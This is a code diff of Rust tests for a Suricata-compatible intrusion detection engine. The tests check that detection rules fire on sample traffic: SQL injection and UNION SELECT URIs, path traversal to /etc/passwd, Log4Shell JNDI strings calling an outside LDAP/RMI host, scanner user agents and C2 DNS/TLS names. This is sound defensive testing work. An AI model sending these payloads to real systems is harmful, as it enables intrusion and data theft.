+            "alert http any any -> any any (content:\"/admin\"; sid:3;)\n",
+            "alert http any any -> any any (pcre:\"/^\\/admin/U\"; sid:4;)\n",
+            "alert http any any -> any any (http.user_agent; content:\"sqlmap\"; nocase; sid:5;)\n",
+            "alert http any any -> any any (http.header; content:\"X-Evil|3a 20|1|0d 0a|\"; sid:6;)\n",
+            "alert http any any -> any any (http.host; content:\"bad.example\"; endswith; sid:7;)\n",
+            "alert http any any -> any any (http.stat_code; content:\"500\"; sid:8;)\n",
+            "alert http any any -> any any (http.cookie; content:\"session=\"; pcre:\"/n=1/C\"; sid:9;)\n",
+            "alert http any any -> any any (http.request_body; content:\"pass=\"; sid:10;)\n",
+            "alert dns any any -> any any (dns.query; content:\"evil\"; sid:11;)\n",
+            "alert tls any any -> any any (tls.sni; content:\"evil\"; sid:12;)\n",
+        ));
+        let headers = http_header_buffer(
+            Direction::ToServer,
+            [
+                (&b"Host"[..], &b"www.BAD.example"[..]),
+                (b"User-Agent", b"SQLMap/1.7  "),
+                (b"Cookie", b"session=1"),
+                (b"X-Evil", b"1"),
+            ],
+        );
+        let response = http_header_buffer(
+            Direction::ToClient,
+            [
+                (&b"Set-Cookie"[..], &b"a=1"[..]),
+                (b"Cookie", b"b=2"),
+                (b"Server", b"x"),
+            ],
+        );
+        assert_eq!(response, b"Cookie: b=2\r\nServer: x\r\n");
+        assert_eq!(
+            headers,
+            b"Host: www.BAD.example\r\nUser-Agent: SQLMap/1.7\r\nX-Evil: 1\r\n"
+        );
+        let insp = Inspection {
+            app_proto: Some(AppProto::Http),
+            http_uri: Some(b"/admin/login.php"),
+            http_method: Some(b"POST"),
+            http_host: Some(b"www.bad.example"),
+            http_user_agent: Some(b"SQLMap/1.7"),
+            http_headers: Some(&headers),
+            http_cookie: Some(b"session=1"),
+            http_request_body: Some(b"user=a&pass=b"),
+            ..tcp(b"POST /admin/login.php HTTP/1.1\r\n")
+        };
+        assert_eq!(sids(&d, &insp), [1, 2, 3, 4, 5, 6, 7, 9, 10]);
+        // the URI only in the payload: only the payload rule
+        let insp2 = Inspection {
+            app_proto: Some(AppProto::Http),
+            ..tcp(b"GET /admin HTTP/1.1\r\n")
+        };
+        assert_eq!(sids(&d, &insp2), [3]);
+        // app-layer rules need the protocol
+        assert_eq!(
+            sids(
+                &d,
+                &Inspection {
+                    app_proto: None,
+                    ..insp
+                }
+            ),
+            Vec::<u32>::new()
+        );
+        let resp = Inspection {
+            app_proto: Some(AppProto::Http),
+            http_stat_code: Some(b"500"),
+            direction: Direction::ToClient,
+            ..tcp(b"HTTP/1.1 500 Oops\r\n")
+        };
+        assert_eq!(sids(&d, &resp), [8]);
+        // a to_server-only buffer is not inspected in the response direction
+        assert_eq!(
+            sids(
+                &d,
+                &Inspection {
+                    http_uri: Some(b"/admin"),
+                    ..resp
+                }
+            ),
+            [8]
+        );
+        let dns = Inspection {
+            app_proto: Some(AppProto::Dns),
+            dns_query: Some(b"www.evil-c2.example"),
+            ..Inspection::new(
+                Transport::Udp,
+                CLIENT,
+                5353,
+                SERVER,
+                53,
+                Direction::ToServer,
+                b"",
+            )
+        };
+        assert_eq!(sids(&d, &dns), [11]);
+        let tls = Inspection {
+            app_proto: Some(AppProto::Tls),
+            tls_sni: Some(b"evil.example"),
+            ..tcp(b"\x16\x03\x01")
+        };
+        assert_eq!(sids(&d, &tls), [12]);
+    }
+
+    #[test]
+    fn flow_direction_established_addresses() {
+        let d = detector(concat!(
+            "alert tcp $HOME_NET any -> $EXTERNAL_NET $HTTP_PORTS (flow:established,to_server; content:\"x\"; sid:1;)\n",
+            "alert tcp $EXTERNAL_NET $HTTP_PORTS -> $HOME_NET any (flow:to_client; content:\"x\"; sid:2;)\n",
+            "alert tcp any any -> any any (flow:not_established; content:\"x\"; sid:3;)\n",
+            "alert tcp 203.0.113.5 any <> 192.168.1.0/24 any (content:\"x\"; sid:4;)\n",
+            "alert tcp any any -> any ![80,443] (content:\"x\"; sid:5;)\n",
+            "alert udp any any -> any any (content:\"x\"; sid:6;)\n",
+            "alert ip any any -> any any (content:\"x\"; sid:7;)\n",
+            "alert tcp any any -> any any (flow:from_server; content:\"x\"; sid:8;)\n",
+        ));
+        let req = tcp(b"x");
+        assert_eq!(sids(&d, &req), [1, 4, 7]);
+        let resp = Inspection {
+            src_ip: SERVER,
+            src_port: 80,
+            dst_ip: CLIENT,
+            dst_port: 40000,
+            direction: Direction::ToClient,
+            ..req
+        };
+        assert_eq!(sids(&d, &resp), [2, 4, 5, 7, 8]);
+        assert_eq!(
+            sids(
+                &d,
+                &Inspection {
+                    established: false,
+                    ..req
+                }
+            ),
+            [3, 4, 7]
+        );
+        assert_eq!(
+            sids(
+                &d,
+                &Inspection {
+                    dst_port: 8080,
+                    ..req
+                }
+            ),
+            [4, 5, 7]
+        );
+        let udp = Inspection {
+            proto: Transport::Udp,
+            ..req
+        };
+        assert_eq!(sids(&d, &udp), [6, 7]);
+    }
+
+    #[test]
+    fn rules_without_content_dsize_and_pass() {
+        let d = detector(concat!(
+            "alert tcp any any -> any any (dsize:>5; sid:1;)\n",
+            "alert tcp any any -> any any (dsize:0; flow:established; sid:2;)\n",
+            "alert tcp any any -> any any (content:\"hello\"; sid:3;)\n",
+            "pass tcp any any -> any 22 (sid:4;)\n",
+        ));
+        assert_eq!(sids(&d, &tcp(b"hello world")), [1, 3]);
+        assert_eq!(sids(&d, &tcp(b"")), [2]);
+        let hits = d.inspect(&Inspection {
+            dst_port: 22,
+            ..tcp(b"hello world")
+        });
+        assert_eq!(hits.len(), 1);
+        assert_eq!((hits[0].sid, hits[0].action), (4, Action::Pass));
+    }
+
+    #[test]
+    fn prefilter_is_case_insensitive_and_verifies_case() {
+        let d = detector(concat!(
+            "alert tcp any any -> any any (content:\"Evil\"; sid:1;)\n",
+            "alert tcp any any -> any any (content:\"evil\"; nocase; sid:2;)\n",
+            "alert tcp any any -> any any (content:\"EVIL\"; sid:3;)\n",
+            "alert tcp any any -> any any (content:\"abc\"; content:\"evil\"; fast_pattern; sid:4;)\n",
+        ));
+        assert_eq!(sids(&d, &tcp(b"so Evil")), [1, 2]);
+        assert_eq!(sids(&d, &tcp(b"so EVIL abc evil")), [2, 3, 4]);
+        assert_eq!(sids(&d, &tcp(b"nothing")), Vec::<u32>::new());
+    }
+
+    #[test]
+    fn hit_fields_and_duplicates() {
+        let text = concat!(
+            "alert http any any -> any any (msg:\"one\"; http.uri; content:\"/x\"; classtype:web-application-attack; priority:2; metadata:created_at 2026_11_27, tag a; target:dest_ip; sid:9000001; rev:1;)\n",
+            "drop http any any -> any any (msg:\"newer\"; http.uri; content:\"/x\"; sid:9000001; rev:2;)\n",
+        );
+        let (d, errors) = Detector::from_rules(text, "dup.rules", &Vars::default());
+        assert_eq!(d.len(), 1);
+        assert_eq!(errors.len(), 1);
+        assert!(
+            errors[0].reason.contains("duplicate sid 9000001"),
+            "{}",
+            errors[0]
+        );
+        assert_eq!(
+            (errors[0].line, errors[0].keyword.as_deref()),
+            (1, Some("sid"))
+        );
+        let insp = Inspection {
+            app_proto: Some(AppProto::Http),
+            http_uri: Some(b"/x"),
+            ..tcp(b"")
+        };
+        let hits = d.inspect(&insp);
+        assert_eq!(
+            (hits[0].rev, &*hits[0].msg, hits[0].action),
+            (2, "newer", Action::Drop)
+        );
+        let (d, _) = Detector::from_rules(
+            &text.lines().next().unwrap().replace("9000001", "9000002"),
+            "a.rules",
+            &Vars::default(),
+        );
+        let h = &d.inspect(&insp)[0];
+        assert_eq!(
+            (h.sid, h.gid, h.rev, h.severity, h.target),
+            (9000002, 1, 1, 2, Some(Target::DestIp))
+        );
+        assert_eq!(h.classtype.as_deref(), Some("web-application-attack"));
+        assert_eq!(h.metadata["created_at"], ["2026_11_27"]);
+    }
+
+    #[test]
+    fn errors_from_detector_and_stats() {
+        let text = concat!(
+            "alert tcp any any -> any any (msg:\"ok\"; content:\"a\"; sid:1;)\n",
+            "alert http any any -> any any (msg:\"fb\"; flowbits:isset,x; content:\"a\"; sid:2;)\n",
+            "alert tcp any any -> any any (msg:\"bt\"; content:\"a\"; byte_test:1,>,2,0,relative; sid:3;)\n",
+            "alert tcp any any -> any any (msg:\"two\"; flowbits:set,x; threshold:type limit,track by_src,count 1,seconds 60; sid:4;)\n",
+            "alert tcp any any -> any (sid:5;)\n",
+        );
+        let (d, errors) = Detector::from_rules(text, "mixed.rules", &Vars::default());
+        assert_eq!(d.len(), 1);
+        let e = &errors[0];
+        assert_eq!(
+            (e.file.as_str(), e.line, e.column, e.keyword.as_deref()),
+            ("mixed.rules", 2, 42, Some("flowbits"))
+        );
+        assert_eq!(
+            e.to_string(),
+            "mixed.rules:2:42: flowbits: keyword not supported yet"
+        );
+        assert_eq!(errors[1].keyword.as_deref(), Some("byte_test"));
+        let stats = rule_stats(&errors);
+        assert_eq!((stats.rejected_rules, stats.errors), (4, 5));
+        assert_eq!(stats.by_keyword[0], ("flowbits".to_string(), 2));
+        assert!(stats.sole_blocker.contains(&("byte_test".to_string(), 1)));
+        assert!(stats.sole_blocker.contains(&("(syntax)".to_string(), 1)));
+        assert!(!stats.sole_blocker.iter().any(|(k, _)| k == "threshold"));
+        assert!(stats.to_string().contains("4 rules rejected"));
+    }
+
+    #[test]
+    fn recursion_limit_bounds_pathological_rules() {
+        let opts = (0..12)
+            .map(|_| r#"content:"a"; distance:0; within:50;"#)
+            .collect::<Vec<_>>()
+            .join(" ");
+        let payload = vec![b'a'; 400];
+        let mut tail = payload.clone();
+        tail.push(b'b');
+        let d = detector(&format!(
+            "alert tcp any any -> any any (content:\"a\"; {opts} content:\"b\"; distance:0; within:1; sid:1;)"
+        ));
+        let t = Instant::now();
+        assert!(d.inspect(&tcp(&payload)).is_empty());
+        assert!(t.elapsed().as_secs() < 5);
+    }
+
+    #[test]
+    fn demo_rules_fire_on_demo_traffic() {
+        let text = include_str!("../../../rules/suricata/demo.rules");
+        let (d, errors) = Detector::from_rules(text, "demo.rules", &Vars::default());
+        assert!(errors.is_empty(), "{errors:#?}");
+        assert!(d.len() >= 6);
+        for r in d.rules() {
+            assert!(r.meta.sid >= 9_000_000, "{}", r.meta.sid);
+            assert_eq!(
+                r.meta.metadata.get("created_at").map(|v| v[0].as_str()),
+                Some("2026_11_27")
+            );
+        }
+        // the addresses of `soc run --demo`: an external attacker, the ministry web server
+        let attacker: IpAddr = "203.0.113.66".parse().unwrap();
+        let web: IpAddr = "10.10.0.80".parse().unwrap();
+        let victim: IpAddr = "10.20.1.25".parse().unwrap();
+        let c2: IpAddr = "198.51.100.77".parse().unwrap();
+        let http = |uri: &'static [u8], ua: &'static [u8], headers: &'static [u8]| Inspection {
+            app_proto: Some(AppProto::Http),
+            established: true,
+            http_method: Some(b"GET"),
+            http_uri: Some(uri),
+            http_host: Some(b"portal.moha.gov.vn"),
+            http_user_agent: Some(ua),
+            http_headers: Some(headers),
+            ..Inspection::new(
+                Transport::Tcp,
+                attacker,
+                51000,
+                web,
+                80,
+                Direction::ToServer,
+                b"",
+            )
+        };
+        let fired = |insp: &Inspection<'_>| {
+            d.inspect(insp)
+                .iter()
+                .map(|h| h.msg.to_string())
+                .collect::<Vec<_>>()
+                .join(" | ")
+        };
+        let normal = http(
+            b"/index.html",
+            b"Mozilla/5.0",
+            b"Host: shop.example\r\nUser-Agent: Mozilla/5.0\r\n",
+        );
+        assert_eq!(fired(&normal), "");
+        let sqli = http(
+            b"/item.php?id=1' OR '1'='1",
+            b"Mozilla/5.0",
+            b"Host: shop.example\r\n",
+        );
+        assert!(fired(&sqli).contains("SQL"), "{}", fired(&sqli));
+        let sqli_encoded = http(
+            b"/van-ban?id=1'%20OR%20'1'='1",
+            b"Mozilla/5.0",
+            b"Host: shop.example\r\n",
+        );
+        assert!(
+            fired(&sqli_encoded).contains("SQL"),
+            "{}",
+            fired(&sqli_encoded)
+        );
+        let union = http(
+            b"/item.php?id=1 UNION SELECT user,pass FROM users",
+            b"Mozilla/5.0",
+            b"Host: shop.example\r\n",
+        );
+        assert!(fired(&union).contains("SQL"), "{}", fired(&union));
+        let trav = http(
+            b"/download.php?file=../../../../etc/passwd",
+            b"Mozilla/5.0",
+            b"Host: shop.example\r\n",
+        );
+        assert!(fired(&trav).contains("traversal"), "{}", fired(&trav));
+        let jndi_ua = http(
+            b"/",
+            b"${jndi:ldap://203.0.113.9/a}",
+            b"User-Agent: ${jndi:ldap://203.0.113.9/a}\r\n",
+        );
+        assert!(fired(&jndi_ua).contains("Log4Shell"), "{}", fired(&jndi_ua));
+        let jndi_uri = http(
+            b"/?x=${jndi:rmi://203.0.113.9/a}",
+            b"curl/8",
+            b"Host: shop.example\r\n",
+        );
+        assert!(
+            fired(&jndi_uri).contains("Log4Shell"),
+            "{}",
+            fired(&jndi_uri)
+        );
+        let scanner = http(
+            b"/",
+            b"sqlmap/1.7.2#stable (https://sqlmap.org)",
+            b"Host: shop.example\r\n",
+        );
+        assert!(fired(&scanner).contains("scanner"), "{}", fired(&scanner));
+        let nikto = http(
+            b"/",
+            b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
+            b"Host: shop.example\r\n",
+        );
+        assert!(fired(&nikto).contains("scanner"), "{}", fired(&nikto));
+        let dns = Inspection {
+            app_proto: Some(AppProto::Dns),
+            dns_query: Some(b"evil-c2.example"),
+            ..Inspection::new(
+                Transport::Udp,
+                victim,
+                53000,
+                "10.20.0.53".parse().unwrap(),
+                53,
+                Direction::ToServer,
+                b"",
+            )
+        };
+        assert!(fired(&dns).contains("DNS"), "{}", fired(&dns));
+        assert!(
+            fired(&Inspection {
+                dns_query: Some(b"beacon.evil-c2.example"),
+                ..dns
+            })
+            .contains("DNS")
+        );
+        assert_eq!(
+            fired(&Inspection {
+                dns_query: Some(b"www.example.com"),
+                ..dns
+            }),
+            ""
+        );
+        assert_eq!(
+            fired(&Inspection {
+                dns_query: Some(b"notevil-c2.example"),
+                ..dns
+            }),
+            ""
+        );
+        let tls = Inspection {
+            app_proto: Some(AppProto::Tls),
+            established: true,
+            tls_sni: Some(b"evil-c2.example"),
+            ..Inspection::new(
+                Transport::Tcp,
+                victim,
+                49000,
+                c2,
+                443,
+                Direction::ToServer,
+                b"\x16\x03\x01",
+            )
+        };
+        assert!(fired(&tls).contains("TLS"), "{}", fired(&tls));
+        assert_eq!(
+            fired(&Inspection {
+                tls_sni: Some(b"www.google.com"),
+                ..tls
+            }),
+            ""
+        );
+    }
+
+    /// Loads all of ET Open (extracted from the shared archive into a temporary directory) and
+    /// reports how much of it this cut supports.
+    #[test]
+    fn et_open_loads_without_panicking() {
+        let archive = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+            .join("../../shared/corpora/et-open/et-open-rules.tar.xz");
+        if !archive.exists() {
+            eprintln!(
+                "SKIPPED: {} not found; ET Open load not checked",
+                archive.display()
+            );
+            return;
+        }
+        let dir = std::env::temp_dir().join(format!(
+            "soc-detect-et-{}-{}",
+            std::process::id(),
+            std::time::SystemTime::now()
+                .duration_since(std::time::UNIX_EPOCH)
+                .map(|d| d.as_nanos())
+                .unwrap_or(0)
+        ));
+        std::fs::create_dir_all(&dir).unwrap();
+        let status = std::process::Command::new("tar")
+            .arg("-xJf")
+            .arg(&archive)
+            .arg("-C")
+            .arg(&dir)
+            .status();
+        if !status.is_ok_and(|s| s.success()) {
+            let _ = std::fs::remove_dir_all(&dir);
+            eprintln!(
+                "SKIPPED: could not extract {} with tar -xJf",
+                archive.display()
+            );
+            return;
+        }
+        let rules_dir = dir.join("rules");
+        let mut files: Vec<_> = std::fs::read_dir(&rules_dir)
+            .unwrap()
+            .filter_map(|e| e.ok().map(|e| e.path()))
+            .filter(|p| p.extension().is_some_and(|x| x == "rules"))
+            .collect();
+        files.sort();
+        let classes =
+            Classifications::load(rules_dir.join("classification.config")).unwrap_or_default();
+        let total: usize = files
+            .iter()
+            .map(|f| {
+                let t = std::fs::read_to_string(f).unwrap_or_default();
+                super::super::parse::split_rules(&t).len()
+            })
+            .sum();
+        let t0 = Instant::now();
+        let mut b = DetectorBuilder::new().classifications(classes);
+        for f in &files {
+            b.add_file(f);
+        }
+        let (d, errors) = b.build();
+        let load = t0.elapsed();
+        let stats = rule_stats(&errors);
+        eprintln!(
+            "ET Open: {} files, {total} enabled rules: {} loaded, {} rejected ({} errors) in {:.2?}",
+            files.len(),
+            d.len(),
+            stats.rejected_rules,
+            stats.errors,
+            load
+        );
+        eprintln!("top keywords of rejected rules:");
+        for (k, n) in stats.by_keyword.iter().take(25) {
+            eprintln!("  {n:>6}  {k}");
+        }
+        eprintln!("rules unlocked by implementing one keyword:");
+        for (k, n) in stats.sole_blocker.iter().take(15) {
+            eprintln!("  {n:>6}  {k}");
+        }
+        eprintln!("top reasons:");
+        for (r, n) in stats.by_reason.iter().take(25) {
+            eprintln!("  {n:>6}  {r}");
+        }
+        let mut per_proto: HashMap<String, usize> = HashMap::new();
+        for r in d.rules() {
+            *per_proto.entry(format!("{:?}", r.proto)).or_default() += 1;
+        }
+        let mut pp: Vec<_> = per_proto.into_iter().collect();
+        pp.sort_by_key(|p| std::cmp::Reverse(p.1));
+        eprintln!("loaded per protocol: {pp:?}");
+        // a few inspections through the full rule set
+        let headers = b"Host: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n";
+        let payload = b"GET /index.php?id=1 HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n";
+        let insp = Inspection {
+            app_proto: Some(AppProto::Http),
+            http_uri: Some(b"/index.php?id=1"),
+            http_method: Some(b"GET"),
+            http_host: Some(b"www.example.com"),
+            http_user_agent: Some(b"Mozilla/5.0"),
+            http_headers: Some(headers),
+            ..tcp(payload)
+        };
+        let t1 = Instant::now();
+        let n = 2000;
+        let mut hits = 0;
+        for _ in 0..n {
+            hits += d.inspect(&insp).len();
+        }
+        eprintln!(
+            "{n} HTTP request inspections: {:.2?} each, {} hits each",
+            t1.elapsed() / n,
+            hits / n as usize
+        );
+        let dns = Inspection {
+            app_proto: Some(AppProto::Dns),
+            dns_query: Some(b"www.example.com"),
+            ..Inspection::new(
+                Transport::Udp,
+                CLIENT,
+                53000,
+                SERVER,
+                53,
+                Direction::ToServer,
+                b"\x12\x34\x01\x00",
+            )
+        };
+        let _ = d.inspect(&dns);
+        let _ = std::fs::remove_dir_all(&dir);
+        // every enabled rule is either loaded or rejected with at least one error
+        assert_eq!(d.len() + stats.rejected_rules, total);
+    }
+}
